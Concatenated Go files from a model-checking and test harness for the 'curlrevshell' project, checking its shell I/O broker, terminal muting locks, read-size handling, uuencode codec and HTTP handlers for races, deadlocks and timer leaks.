		fmt.Println(x.Prop, x.Sig, "-", x.What)
	}
	if 0 != len(rep.Viols) {
		fmt.Println("reproduced")
		return 1
	}
	fmt.Println("not reproduced")
	return 0
}

// qsInputLog counts the input records of the log.
type qsInputLog struct {
	mu sync.Mutex
	n  int
}

// qsInputLogH is a view of the log with the attributes a logger was given.
type qsInputLogH struct {
	l     *qsInputLog
	input bool
}

func (h qsInputLogH) Enabled(context.Context, slog.Level) bool { return true }
func (h qsInputLogH) WithGroup(string) slog.Handler            { return h }
func (h qsInputLogH) WithAttrs(as []slog.Attr) slog.Handler {
	for _, a := range as {
		if iobroker.LKDirection == a.Key && "input" == a.Value.String() {
			h.input = true
		}
	}
	return h
}
func (h qsInputLogH) Handle(_ context.Context, r slog.Record) error {
	if iobroker.LMShellIO != r.Message {
		return nil
	}
	input := h.input
	r.Attrs(func(a slog.Attr) bool {
		if iobroker.LKDirection == a.Key && "input" == a.Value.String() {
			input = true
		}
		return true
	})
	if input {
		h.l.mu.Lock()
		h.l.n++
		h.l.mu.Unlock()
	}
	return nil
}

// qsSlowWriter is a shell's input stream that takes its time over a write.
type qsSlowWriter struct {
	release chan struct{}
	mu      sync.Mutex
	got     []string
}

func (w *qsSlowWriter) Write(p []byte) (int, error) {
	<-w.release
	w.mu.Lock()
	w.got = append(w.got, string(p))
	w.mu.Unlock()
	return len(p), nil
}

// qsBlockedWriter: C11's "every line delivered has exactly one record", with
// time passing: the shell's input stream accepts a line only after a minute
// (a congested link, a busy shell).
func qsBlockedWriter(rep *qsReport) {
	c := qsCase{Flavour: "vclock", Kind: "slow-input-stream", Spell: "1m0s"}
	vtime.Reset(time.Now())
	ich := make(chan string, 4)
	och := make(chan opshell.CLine, 256)
	b, err := hworld.NewBroker(ich, och)
	if nil != err {
		ev.Broken("%s", err)
	}
	ctx, cancel := context.WithCancel(context.Background())
	doRet := make(chan error, 1)
	go func() { doRet <- b.Do(ctx) }()
	lh := &qsInputLog{}
	w := &qsSlowWriter{release: make(chan struct{})}
	sctx, scancel := context.WithCancel(context.Background())
	done := make(chan struct{})
	go func() { defer close(done); b.ConnectIn(sctx, slog.New(qsInputLogH{l: lh}), "quiet", w, "k") }()
	for ok, deadline := false, time.After(hworld.Watchdog); !ok; {
		select {
		case cl := <-och:
			ok = strings.Contains(cl.Line, "Input connected")
		case <-deadline:
			ev.Broken("quiet-spell worker: the input stream never attached")
		}
	}
	ich <- "id"
	for i := 0; i < 20; i++ {
		time.Sleep(2 * time.Millisecond)
		rep.Firings += vtime.AdvanceN(3*time.Second, func() { time.Sleep(2 * time.Millisecond) }, qsMaxFirings)
	}
	close(w.release) /* Now the stream takes what it was given. */
	time.Sleep(20 * time.Millisecond)
	scancel()
	select {
	case <-done:
	case <-time.After(hworld.Watchdog):
	}
	cancel()
	select {
	case <-doRet:
	case <-time.After(hworld.Watchdog):
	}
	time.Sleep(5 * time.Millisecond)
	w.mu.Lock()
	delivered := len(w.got)
	w.mu.Unlock()
	lh.mu.Lock()
	recs := lh.n
	lh.mu.Unlock()
	if delivered != recs {
		rep.Viols = append(rep.Viols, qsViol{Prop: "C11", Sig: "quiet-spell/input-records-differ", Case: c,
			What: fmt.Sprintf("an input stream that took a minute to accept the line it was given: %d line(s) were delivered to the shell in the end, the log has %d input record(s)", delivered, recs)})
	}
	rep.Scenarios++
	rep.TimersArmed += vtime.Created()
}

// qsHeldLog blocks in the record that says a stream has disconnected.
type qsHeldLog struct {
	reached, release chan struct{}
	once             *sync.Once
}

func (h qsHeldLog) Enabled(context.Context, slog.Level) bool { return true }
func (h qsHeldLog) WithAttrs([]slog.Attr) slog.Handler       { return h }
func (h qsHeldLog) WithGroup(string) slog.Handler            { return h }
func (h qsHeldLog) Handle(_ context.Context, r slog.Record) error {
	if iobroker.LMDisconnected == r.Message {
		h.once.Do(func() { close(h.reached) })
		<-h.release
	}
	return nil
}

// qsTearDown: C01's "any attempt made while the previous shell is still being
// torn down is refused", with time passing and the system clock being set:
// a shell whose input has ended and whose output stream is held up between
// the end of its proxying and its release (a log sink that blocks), for
// seconds, for twenty minutes, across a wall-clock step forward and back.
func qsTearDown(rep *qsReport) {
	c := qsCase{Flavour: "vclock", Kind: "tear-down-that-lasts", Spell: "20m0s"}
	vtime.Reset(time.Now())
	ich := make(chan string, 16)
	och := make(chan opshell.CLine, 4096)
	b, err := hworld.NewBroker(ich, och)
	if nil != err {
		ev.Broken("%s", err)
	}
	ctx, cancel := context.WithCancel(context.Background())
	doRet := make(chan error, 1)
	go func() { doRet <- b.Do(ctx) }()
	quiet := slog.New(slog.NewTextHandler(io.Discard, nil))
	waitFor := func(sub string) bool {
		deadline := time.After(hworld.Watchdog)
		for {
			select {
			case cl := <-och:
				if strings.Contains(cl.Line, sub) {
					return true
				}
			case <-deadline:
				return false
			}
		}
	}
	held := qsHeldLog{reached: make(chan struct{}), release: make(chan struct{}), once: new(sync.Once)}
	inCtx, inCancel := context.WithCancel(context.Background())
	outCtx, outCancel := context.WithCancel(context.Background())
	pr, pw := io.Pipe()
	inDone, outDone := make(chan struct{}), make(chan struct{})
	go func() { defer close(inDone); b.ConnectIn(inCtx, quiet, "old-in", io.Discard, "kittens") }()
	if !waitFor("Input connected") {
		ev.Broken("quiet-spell worker (tear-down): the input stream never attached")
	}
	go func() { defer close(outDone); b.ConnectOut(outCtx, slog.New(held), "old-out", pr, "kittens") }()
	if !waitFor(iobroker.ShellReadyMessage) {
		ev.Broken("quiet-spell worker (tear-down): the shell never became ready")
	}
	inCancel()
	<-inDone
	select {
	case <-held.reached:
	case <-time.After(hworld.Watchdog):
		ev.Broken("quiet-spell worker (tear-down): the output stream did not end after the input had")
	}
	stuck := false /* An attempt did not come back: nothing after it can be trusted to. */
	attempt := func(when string) {
		if stuck {
			return
		}
		for _, k := range []struct{ kind, key string }{{"in", "moose"}, {"out", "moose"}, {"in", "kittens"}, {"out", "kittens"}, {"io", ""}} {
			actx, acancel := context.WithCancel(context.Background())
			done := make(chan struct{})
			ar, aw := io.Pipe()
			go func() {
				defer close(done)
				switch k.kind {
				case "in":
					b.ConnectIn(actx, quiet, "new", io.Discard, k.key)
				case "out":
					b.ConnectOut(actx, quiet, "new", ar, k.key)
				default:
					b.ConnectInOut(actx, quiet, "new", io.Discard, ar)
				}
			}()
			select {
			case <-done: /* Refused, ended at once. */
			case <-time.After(hworld.Watchdog):
				rep.Viols = append(rep.Viols, qsViol{Prop: "C01", Sig: "quiet-spell/admitted-during-tear-down/" + k.kind, Case: c,
					What: fmt.Sprintf("shell \"kittens\": input ended, output stream held up before its release (a log sink that blocks); %s a new %s stream with ID %q was not refused (its Connect call is still running after %v)", when, k.kind, k.key, hworld.Watchdog)})
			}
			acancel()
			aw.Close()
			select {
			case <-done:
			case <-time.After(hworld.Watchdog):
				stuck = true
				return
			}
		}
	}
	step := func(d time.Duration) {
		for i := 0; i < 40; i++ {
			time.Sleep(time.Millisecond)
			rep.Firings += vtime.AdvanceN(d/40, func() { time.Sleep(time.Millisecond) }, qsMaxFirings)
		}
	}
	attempt("at once,")
	step(31 * time.Second)
	attempt("31 s later,")
	step(20 * time.Minute)
	attempt("20 minutes later,")
	vtime.StepWall(time.Hour)
	attempt("after the system clock was set forward by an hour,")
	vtime.StepWall(-2 * time.Hour)
	step(time.Second)
	attempt("after the system clock was set back by two hours,")
	close(held.release)
	outCancel()
	pw.Close()
	select {
	case <-outDone:
	case <-time.After(hworld.Watchdog):
	}
	cancel()
	select {
	case <-doRet:
	case <-time.After(hworld.Watchdog):
	}
	rep.Scenarios++
	rep.TimersArmed += vtime.Created()
}

// qsFailWriter fails every write.
type qsFailWriter struct{}

func (qsFailWriter) Write([]byte) (int, error) { return 0, io.ErrClosedPipe }

// qsAfterTearDown: C04's "once its transport streams are closed nothing
// belonging to the ended shell keeps running", with time passing: a shell that
// ended (in each of three ways, one of them a failed write of an input line)
// and was announced gone; then twenty minutes on the virtual clock.  Nothing
// more is said to the operator, and no timer is left armed.
func qsAfterTearDown(rep *qsReport) {
	for _, how := range []string{"input-write-fails", "output-eof", "cancelled"} {
		c := qsCase{Flavour: "vclock", Kind: "after-tear-down/" + how, Spell: "20m0s"}
		vtime.Reset(time.Now())
		ich := make(chan string, 16)
		och := make(chan opshell.CLine, 4096)
		b, err := hworld.NewBroker(ich, och)
		if nil != err {
			ev.Broken("%s", err)
		}
		ctx, cancel := context.WithCancel(context.Background())
		doRet := make(chan error, 1)
		go func() { doRet <- b.Do(ctx) }()
		quiet := slog.New(slog.NewTextHandler(io.Discard, nil))
		waitFor := func(sub string) bool {
			deadline := time.After(hworld.Watchdog)
			for {
				select {
				case cl := <-och:
					if strings.Contains(cl.Line, sub) {
						return true
					}
				case <-deadline:
					return false
				}
			}
		}
		sctx, scancel := context.WithCancel(context.Background())
		var in io.Writer = io.Discard
		if "input-write-fails" == how {
			in = qsFailWriter{}
		}
		pr, pw := io.Pipe()
		inDone, outDone := make(chan struct{}), make(chan struct{})
		go func() { defer close(inDone); b.ConnectIn(sctx, quiet, "in", in, "k") }()
		go func() { defer close(outDone); b.ConnectOut(sctx, quiet, "out", pr, "k") }()
		if !waitFor(iobroker.ShellReadyMessage) {
			ev.Broken("quiet-spell worker (after tear-down): the shell never became ready")
		}
		switch how {
		case "input-write-fails":
			ich <- "a line the shell's stream does not take"
		case "output-eof":
			pw.Close()
		case "cancelled":
			scancel()
		}
		gone := waitFor(iobroker.ShellDisconnectedMessage)
		for _, d := range []chan struct{}{inDone, outDone} {
			select {
			case <-d:
			case <-time.After(hworld.Watchdog):
				gone = false
			}
		}
		scancel()
		pw.Close()
		pr.Close()
		if gone {
			/* Twenty minutes pass. */
			for i := 0; i < 60; i++ {
				time.Sleep(time.Millisecond)
				rep.Firings += vtime.AdvanceN(20*time.Second, func() { time.Sleep(time.Millisecond) }, qsMaxFirings)
			}
			time.Sleep(5 * time.Millisecond)
			var late []string
			for more := true; more; {
				select {
				case cl := <-och:
					late = append(late, cl.Line)
				default:
					more = false
				}
			}
			if 0 != len(late) || 0 != len(vtime.Pending()) {
				rep.Viols = append(rep.Viols, qsViol{Prop: "C04", Sig: "quiet-spell/after-tear-down/" + how, Case: c,
					What: fmt.Sprintf("a shell that ended (%s), was announced gone and whose Connect calls have returned; twenty minutes later: %d more notice(s) about it (%q), %d timer(s) still armed", how, len(late), trunc80(strings.Join(late, " | ")), len(vtime.Pending()))})
			}
		}
		cancel()
		select {
		case <-doRet:
		case <-time.After(hworld.Watchdog):
		}
		rep.Scenarios++
		rep.TimersArmed += vtime.Created()
	}
}
