package checks

/*
 * C19, lock interleavings: "for every timing of Ctrl+O relative to bursts of
 * shell output and status lines".  The Ctrl+O handler runs inside the terminal
 * library's key processing and takes the Shell's write lock; output and status
 * lines take the write lock and then write to the terminal.  With the sync
 * import of opshell.go rewritten to verifx/vsync, every goroutine parks before
 * and after each acquisition of the write lock, and a stateless DFS runs the
 * real code under every order of those steps.  Oracle: whatever the order,
 * afterwards the terminal still works (a status line is displayed) and no
 * goroutine of the Shell is stuck on a mutex.
 */

import (
	"bufio"
	"encoding/json"
	"fmt"
	"os"
	"path/filepath"
	"runtime"
	"sort"
	"strings"
	"sync"
	"time"

	"github.com/magisterquis/curlrevshell/lib/opshell"
	"github.com/magisterquis/curlrevshell/verifx/quiesce"
	"github.com/magisterquis/curlrevshell/verifx/vsync"
	"github.com/magisterquis/curlrevshell/verifx/vtime"
)

func init() { workers["c19locks"] = c19LocksWorker }

// lockSched parks goroutines at the write lock's scheduling points.
type lockSched struct {
	mu     sync.Mutex
	parked map[string]chan struct{} /* role -> resume */
	where  map[string]string        /* role -> event */
	nAux   int
	free   bool
}

func roleOf(stack string) string {
	/* Who started the goroutine does not matter, except for timers. */
	if i := strings.Index(stack, "\ncreated by "); i >= 0 {
		if strings.Contains(stack[i:], "vtime.Advance") {
			return "timer"
		}
		stack = stack[:i]
	}
	switch {
	case strings.Contains(stack, "opshell.(*Shell).insert"):
		return "insert"
	case strings.Contains(stack, "goxterm.(*Terminal).handleKey"), strings.Contains(stack, "opshell.New.func"):
		/* The control-character handler, wherever it runs. */
		return "key"
	case strings.Contains(stack, "opshell.(*Shell).handleOutput"):
		return "output"
	case strings.Contains(stack, "opshell.(*Shell).insert"):
		return "insert"
	case strings.Contains(stack, "VerifState"), strings.Contains(stack, "VerifMuted"):
		return ""
	}
	return "aux"
}

func (ls *lockSched) hook(event string, m *vsync.Mutex) {
	if "unlock" == event {
		return
	}
	buf := make([]byte, 4096)
	role := roleOf(string(buf[:runtime.Stack(buf, false)]))
	ls.mu.Lock()
	if ls.free || "" == role {
		ls.mu.Unlock()
		return
	}
	if "aux" == role {
		/* Announcement goroutines (go s.Logf): numbered by arrival. */
		ls.nAux++
		role = fmt.Sprintf("aux%d", ls.nAux)
	}
	ch := make(chan struct{})
	key := role + ":" + event
	for n := 2; ; n++ { /* Two goroutines in one role (two keys typed): number them. */
		if _, taken := ls.parked[key]; !taken {
			break
		}
		key = fmt.Sprintf("%s#%d:%s", role, n, event)
	}
	ls.parked[key] = ch
	ls.mu.Unlock()
	<-ch
}

func (ls *lockSched) enabled() []string {
	ls.mu.Lock()
	defer ls.mu.Unlock()
	var ks []string
	for k := range ls.parked {
		ks = append(ks, k)
	}
	sort.Strings(ks)
	return ks
}

func (ls *lockSched) resume(k string) {
	ls.mu.Lock()
	ch := ls.parked[k]
	delete(ls.parked, k)
	ls.mu.Unlock()
	close(ch)
}

func (ls *lockSched) releaseAll() {
	ls.mu.Lock()
	ls.free = true
	for k, ch := range ls.parked {
		close(ch)
		delete(ls.parked, k)
	}
	ls.mu.Unlock()
}

// waitRole waits until some parked step's name starts with prefix.
func (ls *lockSched) waitRole(prefix string) bool {
	deadline := time.Now().Add(20 * time.Second)
	for time.Now().Before(deadline) {
		for _, k := range ls.enabled() {
			if strings.HasPrefix(k, prefix) {
				return true
			}
		}
		time.Sleep(100 * time.Microsecond)
	}
	return false
}

type lockRun struct {
	Choices []int    `json:"choices"`
	Steps   []string `json:"steps"`
	Enabled [][]string
	Problem string `json:"problem"`
	Stuck   string `json:"stuck"`
}

// c19LockRun runs scenario (a string over K=Ctrl+O key byte, P=plain chunk,
// S=status line, I=Ctrl+I key byte; a leading M means "already muted") under
// the schedule prefix.
func c19LockRun(capPath, scenario string, prefix []int) (*lockRun, error) {
	vtime.Reset(time.Date(2024, 1, 2, 3, 4, 5, 0, time.UTC))
	ts, err := newTermSessionOpts(capPath, true, []byte("inserted text\n"), false)
	if nil != err {
		return nil, err
	}
	vtime.Advance(0, func() { quiesce.Wait() })
	if strings.HasPrefix(scenario, "M") {
		ts.sh.VerifKey(0x0F)
		quiesce.Wait()
		scenario = scenario[1:]
	}
	ts.output()
	ls := &lockSched{parked: map[string]chan struct{}{}, where: map[string]string{}}
	vsync.Hook = ls.hook
	res := &lockRun{}
	defer func() {
		ls.releaseAll()
		vsync.Hook = nil
		/* A deadlocked Shell cannot be torn down: abandon it (the worker
		process is short-lived). */
		if "" == res.Stuck {
			ts.close()
		} else {
			os.Stdout, os.Stdin = realStdout, realStdin
		}
	}()
	/* Issue every operation of the scenario "at the same time". */
	for _, op := range scenario {
		switch op {
		case 'K':
			had := 0
			for _, k := range ls.enabled() {
				if strings.HasPrefix(k, "key") {
					had++
				}
			}
			ts.stdinW.Write([]byte{0x0F})
			if 0 == had {
				if !ls.waitRole("key:") {
					return nil, fmt.Errorf("the Ctrl+O key never reached the handler")
				}
				break
			}
			/* A further key while an earlier one is still being handled:
			wait for its handler to show up; if it does not (the key is
			held back somewhere), the liveness oracle below has the say. */
			for deadline := time.Now().Add(2 * time.Second); time.Now().Before(deadline); time.Sleep(200 * time.Microsecond) {
				now := 0
				for _, k := range ls.enabled() {
					if strings.HasPrefix(k, "key") {
						now++
					}
				}
				if now > had {
					break
				}
			}
		case 'I':
			ts.stdinW.Write([]byte{0x09})
			if !ls.waitRole("insert:") {
				return nil, fmt.Errorf("the Ctrl+I key never reached the insert code")
			}
		case 'P':
			ts.och <- opshell.CLine{Plain: true, Line: "<plain>\n"}
			if !ls.waitRole("output:") {
				return nil, fmt.Errorf("the plain chunk never reached the write lock")
			}
		case 'S':
			ts.och <- opshell.CLine{Line: "<status>", Color: opshell.ColorGreen}
			if !ls.waitRole("output:") {
				return nil, fmt.Errorf("the status line never reached the write lock")
			}
		case 'T':
			/* The pause interval passes: the unmute timer fires. */
			vtime.Advance(c19Pause, nil)
			if !ls.waitRole("timer:") {
				return nil, fmt.Errorf("the unmute timer never reached the write lock")
			}
		}
	}
	/* Schedule. */
	for step := 0; step < 64; step++ {
		quiesce.Wait()
		en := ls.enabled()
		if 0 == len(en) {
			break
		}
		ch := 0
		if step < len(prefix) {
			ch = prefix[step]
			if ch >= len(en) {
				return nil, fmt.Errorf("schedule prefix out of range at step %d: %v of %v", step, ch, en)
			}
		}
		res.Choices = append(res.Choices, ch)
		res.Enabled = append(res.Enabled, en)
		res.Steps = append(res.Steps, en[ch])
		ls.resume(en[ch])
	}
	quiesce.Wait()
	/* Liveness: the terminal still shows a status line, and nobody is
	stuck on a mutex. */
	ls.releaseAll()
	ts.och <- opshell.CLine{Line: "<liveness-marker>", Color: opshell.ColorGreen}
	quiesce.Wait()
	out := ts.output()
	/* Mute semantics whatever the order: output that was suppressed starts
	the calm anew, so the shell cannot be un-muted at that same instant. */
	if strings.Contains(scenario, "T") && strings.Contains(scenario, "P") && !strings.Contains(out, "<plain>") {
		if silenced, known := ts.sh.VerifMuted(); (known && !silenced) || strings.Contains(out, "Unmuting") {
			res.Problem = fmt.Sprintf("shell output arriving exactly when the pause interval ends was suppressed, and yet muting ended at that same moment (no calm at all): terminal shows %q, muted flag %v", out, silenced)
		}
	}
	var stuck []string
	for _, g := range quiesce.Dump() {
		if strings.Contains(g.State, "Mutex.Lock") && (strings.Contains(g.Frames, "lib/opshell.") || strings.Contains(g.Frames, "goxterm.")) {
			top := ""
			for _, l := range strings.Split(g.Frames, "\n") {
				if (strings.Contains(l, "lib/opshell.") || strings.Contains(l, "goxterm.")) && !strings.HasPrefix(l, "\t") {
					top = strings.TrimSpace(l)
					if i := strings.LastIndex(top, "/"); i >= 0 {
						top = top[i+1:]
					}
					if i := strings.LastIndexByte(top, '('); i > 0 {
						top = top[:i] /* Drop the argument list. */
					}
					break
				}
			}
			stuck = append(stuck, top)
		}
	}
	sort.Strings(stuck)
	if 0 != len(stuck) {
		res.Stuck = strings.Join(stuck, " <-> ")
		res.Problem = fmt.Sprintf("deadlock: goroutines stuck on mutexes forever: %s; the status line sent afterwards was %sdisplayed", res.Stuck, map[bool]string{true: "", false: "not "}[strings.Contains(out, "<liveness-marker>")])
	} else if !strings.Contains(out, "<liveness-marker>") && "" == res.Problem {
		res.Problem = fmt.Sprintf("a status line sent after the operations was not displayed (terminal shows %q)", out)
	}
	return res, nil
}

// c19LocksWorker: c19locks <scenario> <scratch>; explores every schedule.
func c19LocksWorker(args []string) int {
	runtime.GOMAXPROCS(1)
	scenario, dir := args[0], args[1]
	capPath := filepath.Join(dir, fmt.Sprintf("locks-%d", os.Getpid()))
	defer os.Remove(capPath)
	type result struct {
		Schedules int      `json:"schedules"`
		Steps     int      `json:"steps"`
		Problem   string   `json:"problem,omitempty"`
		Stuck     string   `json:"stuck,omitempty"`
		Schedule  []string `json:"schedule,omitempty"`
		Choices   []int    `json:"choices,omitempty"`
		Err       string   `json:"err,omitempty"`
		/* NotApplicable: why the scenario could not be set up on this Shell. */
		NotApplicable string `json:"not_applicable,omitempty"`
	}
	var res result
	var explore func(prefix []int) bool
	explore = func(prefix []int) bool {
		x, err := c19LockRun(capPath, scenario, prefix)
		if nil != err && 0 == len(prefix) && strings.Contains(err.Error(), "never reached") {
			/* This Shell does not do that step in a goroutine of its
			own taking the write lock (another design): the scenario has
			nothing to interleave. */
			res.NotApplicable = err.Error()
			return false
		}
		if nil != err {
			res.Err = err.Error()
			return false
		}
		res.Schedules++
		res.Steps += len(x.Steps)
		if "" != x.Problem && ("" == res.Problem || len(x.Steps) < len(res.Schedule)) {
			res.Problem, res.Stuck, res.Schedule, res.Choices = x.Problem, x.Stuck, x.Steps, x.Choices
		}
		if "" != x.Stuck {
			/* This process now holds a wedged Shell; stop here, the
			master restarts a worker for the remaining schedules if it
			wants them.  One counterexample decides. */
			return false
		}
		for i := len(prefix); i < len(x.Choices); i++ {
			for alt := 1; alt < len(x.Enabled[i]); alt++ {
				if !explore(append(append([]int{}, x.Choices[:i]...), alt)) {
					return false
				}
			}
		}
		return true
	}
	explore(nil)
	w := bufio.NewWriter(realStdout)
	json.NewEncoder(w).Encode(res)
	w.Flush()
	if "" != res.Err {
		return 2
	}
	return 0
}
