package checks

import (
	"encoding/json"
	"fmt"
	"os"
	"time"

	"github.com/magisterquis/curlrevshell/verifx/bworld"
	"github.com/magisterquis/curlrevshell/verifx/ev"
)

func init() {
	registry["C03"] = checkDef{level: "model_checking", run: c03, replay: func(kind string, raw json.RawMessage) int {
		if "quietspell" == kind {
			return quietSpellReplay(raw)
		}
		if "c03handler" == kind || "c03http" == kind || "c03stress" == kind {
			fmt.Println("HTTP- and handler-seam findings are replayed by re-running ./run C03 quick (these parts take seconds); the failing case is in the artefact")
			return 2
		}
		if "c03term" == kind {
			fmt.Println("terminal-seam findings are replayed by re-running ./run C03 quick (the enumeration takes seconds); the failing case is in the artefact")
			return 2
		}
		return brokerReplayFunc(kind, raw)
	}}
}

// c03Profiles: every sequence of read results (data, zero-length reads, data
// together with each terminal condition, terminal condition alone, sizes
// around the 2048-byte buffer), with a roomy, a one-slot and an unbuffered
// operator channel consumed at every relative speed, and cancellation at
// every point.
func c03Profiles(quick bool) []*bworld.Profile {
	chunks := bworld.Profile{
		Name:   "c03-read-results",
		OchCap: 1024,
		Starts: []bworld.StartSpec{{Kind: "out", Key: "k", Max: 1}, {Kind: "in", Key: "k", Max: 1}},
		Outs: []bworld.OutSpec{
			{Data: "<chunk#>"}, {Data: ""},
			{Data: "<chunk#>", Err: "eof"}, {Err: "eof"},
			{Data: "<chunk#>", Err: "ueof"}, {Err: "closedpipe"},
			{Data: "<chunk#>", Err: "other"}, {Err: "other"},
		},
		MaxAttempts: 2,
		MaxOuts:     3,
		Cancel:      true,
		Oracles:     []string{"C03"},
	}
	sizes := bworld.Profile{
		Name:   "c03-sizes-around-buffer",
		OchCap: 1024,
		Starts: []bworld.StartSpec{{Kind: "io", WKind: 3, Max: 1}},
		Outs: []bworld.OutSpec{
			{Data: "<chunk#>", Pad: 1}, {Data: "<chunk#>", Pad: 2047}, {Data: "<chunk#>", Pad: 2048},
			{Data: "<chunk#>", Pad: 2049}, {Data: "<chunk#>", Pad: 5000},
			{Data: "<chunk#>", Pad: 4097, Err: "eof"}, {Data: "<chunk#>", Pad: 2049, Err: "other"},
		},
		MaxAttempts: 1,
		MaxOuts:     3,
		Oracles:     []string{"C03"},
	}
	stalled := func(name string, cap int) *bworld.Profile {
		return &bworld.Profile{
			Name:   name,
			OchCap: cap,
			Starts: []bworld.StartSpec{{Kind: "out", Key: "k", Max: 1}},
			Outs: []bworld.OutSpec{
				{Data: "<chunk#>"}, {Data: "<chunk#>", Err: "eof"}, {Err: "other"},
			},
			MaxAttempts: 1,
			MaxOuts:     4,
			Cancel:      true,
			MaxConsume:  8,
			Await:       true,
			Oracles:     []string{"C03"},
		}
	}
	s0, s1 := stalled("c03-unbuffered-terminal", 0), stalled("c03-one-slot-terminal", 1)
	/* A Read that is pending when the stream's Connect call returns stays
	pending (net/http's does) and is handed one more chunk: the stream has
	ended, nothing of it is shown, whoever is attached by then. */
	late := &bworld.Profile{
		Name:        "c03-late-chunk",
		OchCap:      1024,
		LateOut:     true,
		Starts:      []bworld.StartSpec{{Kind: "out", Key: "k", Max: 2}, {Kind: "in", Key: "k", Max: 1}},
		Outs:        []bworld.OutSpec{{Data: "<chunk#>"}, {Data: "<chunk#>", Err: "eof"}},
		MaxAttempts: 3,
		MaxOuts:     2,
		Cancel:      true,
		Oracles:     []string{"C03"},
	}
	if quick {
		return []*bworld.Profile{&chunks, &sizes, s0, s1, late}
	}
	chunks.MaxOuts = 4
	sizes.MaxOuts = 4
	s0.MaxOuts, s0.MaxConsume = 5, 10
	s1.MaxOuts, s1.MaxConsume = 5, 10
	s0.Starts = append(s0.Starts, bworld.StartSpec{Kind: "in", Key: "k", Max: 1})
	s0.MaxAttempts = 2
	return []*bworld.Profile{&chunks, &sizes, s0, s1, late}
}

func c03(r *ev.Result, tier string) {
	r.Rule = brokerRule
	budget := 50 * time.Second
	if !isQuick(tier) {
		budget = 10 * time.Minute
	}
	exploreProfiles(r, budget, c03Profiles(isQuick(tier))...)
	/* The HTTP seam: the same clauses through the real handlers over TLS. */
	c03HTTP(r)
	c03Handler(r)
	if isQuick(tier) {
		c03PrefixStress(r, 60)
	} else {
		c03PrefixStress(r, 1500)
	}
	c03ZeroReads(r)
	{
		base := ev.Scratch("c03bin-")
		c03RealColor(r, base)
		os.RemoveAll(base)
	}
	quietSpell(r, "C03")
	/* The terminal seam: the real Shell on a pty shows exactly what the
	operator channel carries, in order, however far behind it is. */
	maxLen := 4
	if !isQuick(tier) {
		maxLen = 6
	}
	runTermSeam(r, "c03", maxLen, "c03term")
	/* The operator's locale: chunks that end inside a multi-byte character
	are output like any other, also when the locale says UTF-8. */
	for _, env := range [][]string{{"NO_COLOR=1"}, {"NO_COLOR", "TERM=dumb"}, {"NO_COLOR", "TERM=xterm-256color"}} {
		runTermSeamEnv(r, "c03color", 0, "c03term", env)
	}
	for _, loc := range [][]string{{"LANG=en_US.UTF-8"}, {"LC_ALL=C.UTF-8", "LANG=C"}} {
		runTermSeamEnv(r, "c03u", maxLen, "c03term", loc)
	}
	r.Rule += fmt.Sprintf("; plus the terminal seam: every sequence of <=%d items over {plain chunk, chunk without newline, multi-line chunk, chunk with CR LF, a chunk that repeats byte for byte, close-style notice, status line} through the real opshell.Shell on a pty, delivered stepwise, as a burst, and as a backlog queued before the Shell starts reading; the terminal (ANSI sequences removed) must equal the CR-LF translation of the plain chunks and the notices, in order", maxLen)
	r.Assume("Ctrl+O muting is C19's subject; goxterm's own LF->CRLF translation in raw mode is the only permitted difference between the channel and the terminal")
}
