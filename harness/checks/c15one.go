package checks

/*
 * C15 on a machine with one processor: the codec in a child process that
 * runs with GOMAXPROCS=1 (a one-CPU container, taskset -c 0), inputs of
 * 0 .. 1 MiB around every size a block-wise implementation could care about.
 * The child compares with the reference encoder and decodes back; the parent
 * only requires that it finishes (five minutes: the work takes well under a
 * second).
 */

import (
	"bytes"
	"context"
	"fmt"
	"os"
	"os/exec"
	"strings"
	"time"

	"github.com/magisterquis/curlrevshell/lib/uu"
	"github.com/magisterquis/curlrevshell/verifx/ev"
)

func c15Sizes() []int {
	var ns []int
	for _, b := range []int{0, 45, 1024, 4096, 45 * 1024, 1 << 16, 100000, 45 * 4096, 1 << 18, 1 << 19, 1 << 20} {
		for _, d := range []int{-1, 0, 1} {
			if n := b + d; n >= 0 && n <= 1<<20 {
				ns = append(ns, n)
			}
		}
	}
	return ns
}

func init() {
	workers["c15one"] = func([]string) int {
		for _, n := range c15Sizes() {
			src := make([]byte, n)
			for i := range src {
				src[i] = byte(i*131 + i>>8)
			}
			fmt.Printf("size %d\n", n)
			enc := uu.AppendEncode(nil, src)
			if want := refEncode(src); !bytes.Equal(enc, want) {
				fmt.Printf("DIFFERS size %d: encoded to %d bytes, the reference to %d\n", n, len(enc), len(want))
				return 1
			}
			dec, err := uu.AppendDecode([]byte("kept"), enc)
			if nil != err || !bytes.Equal(dec, append([]byte("kept"), src...)) {
				fmt.Printf("DIFFERS size %d: decoding what was encoded gives %d bytes, err %v\n", n, len(dec), err)
				return 1
			}
		}
		fmt.Println("all sizes done")
		return 0
	}
}

func c15OneProcessor(r *ev.Result) {
	for _, procs := range []string{"1", "2"} {
		ctx, cancel := context.WithTimeout(context.Background(), 5*time.Minute)
		cmd := exec.CommandContext(ctx, os.Args[0], "worker", "c15one")
		cmd.Env = append(os.Environ(), "GOMAXPROCS="+procs)
		out, err := cmd.CombinedOutput()
		cancel()
		lines := strings.Split(strings.TrimSpace(string(out)), "\n")
		last := lines[len(lines)-1]
		r.Evaluations += len(c15Sizes())
		if nil != err || "all sizes done" != last {
			what := fmt.Sprintf("the codec in a process with GOMAXPROCS=%s: %v; last output %q", procs, err, last)
			if nil != ctx.Err() {
				what = fmt.Sprintf("the codec in a process with GOMAXPROCS=%s did not finish within five minutes (the work of a second); it was at %q", procs, last)
			}
			r.Violate(ev.Violation{Signature: "one-processor/GOMAXPROCS=" + procs, Kind: "c15one", Replay: map[string]string{"gomaxprocs": procs, "last": last}, What: what})
		}
	}
	r.Set("sizes_in_a_process_with_one_processor", len(c15Sizes()))
}
