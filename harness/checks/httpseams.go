package checks

/*
 * HTTP seams of C02, C03 and C04: the same clauses as at the broker seam,
 * observed by real TLS clients of the real handlers (in-process server).
 * These are small deterministic enumerations; every wait is on an
 * acknowledgement (bytes arriving, a notice), never on a clock.
 */

import (
	"context"
	"fmt"
	"io"
	"net/http"
	"net/http/httptest"
	"strings"
	"time"

	"github.com/magisterquis/curlrevshell/internal/iobroker"
	"github.com/magisterquis/curlrevshell/lib/opshell"
	"github.com/magisterquis/curlrevshell/verifx/ev"
	"github.com/magisterquis/curlrevshell/verifx/hworld"
)

// readUntil reads from a response body until s has been seen.
func readUntil(c *hworld.Conn, body io.Reader, s string) (string, error) {
	buf := make([]byte, 4096)
	got := ""
	c.C.SetReadDeadline(time.Now().Add(hworld.Watchdog))
	for !strings.Contains(got, s) {
		n, err := body.Read(buf)
		got += string(buf[:n])
		if nil != err {
			return got, err
		}
	}
	return got, nil
}

